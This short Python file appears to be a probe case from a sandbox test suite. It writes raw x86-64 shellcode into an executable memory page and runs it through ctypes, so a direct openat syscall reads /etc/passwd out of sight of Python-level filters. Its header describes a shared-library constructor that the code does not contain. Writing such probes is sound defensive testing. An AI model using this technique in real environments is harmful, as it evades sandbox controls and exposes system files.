# what: loads a shared library with a broken or hostile constructor, and runs machine code that no filter of Python sees
# expect: valid | crash
# escaped: 0

import ctypes
import mmap
import os

# mov eax, 257 (openat); mov edi, AT_FDCWD; mov rsi, path; xor edx, edx; syscall; ret
OPEN = "b801010000 bf9cffffff 48be{path} 31d2 0f05 c3"


def solve(numbers):
    if os.uname().machine != "x86_64":
        return {"escaped": []}
    path = ctypes.create_string_buffer(b"/etc/passwd")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex(OPEN.format(path=ctypes.addressof(path).to_bytes(8, "little").hex())))
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return {"escaped": ["/etc/passwd"] if run() >= 0 else []}
